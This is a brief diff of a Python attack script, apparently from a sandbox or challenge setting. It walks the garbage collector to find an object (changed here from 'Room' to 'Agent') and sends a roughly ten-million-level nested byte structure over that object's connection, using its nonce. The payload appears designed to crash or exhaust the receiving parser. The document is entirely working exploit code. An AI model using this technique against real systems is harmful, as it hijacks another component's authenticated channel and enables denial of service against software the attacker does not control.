@@ -5,7 +5,7 @@
 import gc
 
 for room in gc.get_objects():
-    if type(room).__name__ == "Room":
+    if type(room).__name__ == "Agent":
         tree = b'["l"' + b',["s"]' * 10_000_000 + b"]"
         room.connection.send_bytes(room.nonce + b">" + len(tree).to_bytes(4, "little") + tree)
         break
